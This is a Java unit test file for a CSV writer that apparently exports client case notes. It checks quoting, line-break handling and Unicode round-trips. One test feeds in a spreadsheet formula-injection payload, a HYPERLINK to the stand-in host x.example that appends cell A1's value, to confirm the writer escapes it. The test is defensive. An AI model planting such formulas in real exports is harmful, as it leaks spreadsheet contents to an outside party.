package org.casenotes.supervision.core.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.casenotes.supervision.core.testing.StrictCsv.parse;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    @Test
    void plainFieldsAreWrittenAsTheyAre() {
        assertThat(new Csv().row("meeting", "2026-11-02", "", null).text()).isEqualTo("meeting,2026-11-02,,\r\n");
    }

    private static String field(String value) {
        String text = new Csv().row(value).text();
        return text.substring(0, text.length() - 2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=", "+", "-", "@", "\t", "\r"})
    void aCellThatBeginsLikeAFormulaIsWrittenAsText(String first) {
        String value = first + "HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
        List<List<String>> rows = parse(new Csv().row("a", value).text());

        assertThat(rows.get(0).get(1)).isEqualTo("'" + value);
        assertThat(rows.get(0).get(0)).isEqualTo("a");
    }

    @Test
    void fieldsWithCommasQuotesOrLineBreaksAreQuotedWithTheirQuotesDoubled() {
        assertThat(field("García-López, María José")).isEqualTo("\"García-López, María José\"");
        assertThat(field("Dr. \"Rae\" Okafor")).isEqualTo("\"Dr. \"\"Rae\"\" Okafor\"");
        assertThat(field("line one\nline two")).isEqualTo("\"line one\nline two\"");
        assertThat(field("line one\r\nline two")).isEqualTo("\"line one\r\nline two\"");
        assertThat(field("carriage\rreturn")).isEqualTo("\"carriage\rreturn\"");
        assertThat(field("no ' special ; here")).isEqualTo("no ' special ; here");
    }

    @Test
    void notesWithEverySpecialCharacterReadBackUnchanged() {
        List<String> note = List.of("Discussed \"timing\", then boundaries;\r\nclient said: \"it helped\"", "",
                "ends with a quote\"", "\"", ",", "Ελένη Γεωργίου\nδεύτερη γραμμή");
        String text = new Csv().row(note.toArray(String[]::new)).row("a", "b").text();

        assertThat(parse(text)).containsExactly(note, List.of("a", "b"));
        assertThat(text).endsWith("\r\n");
    }
}
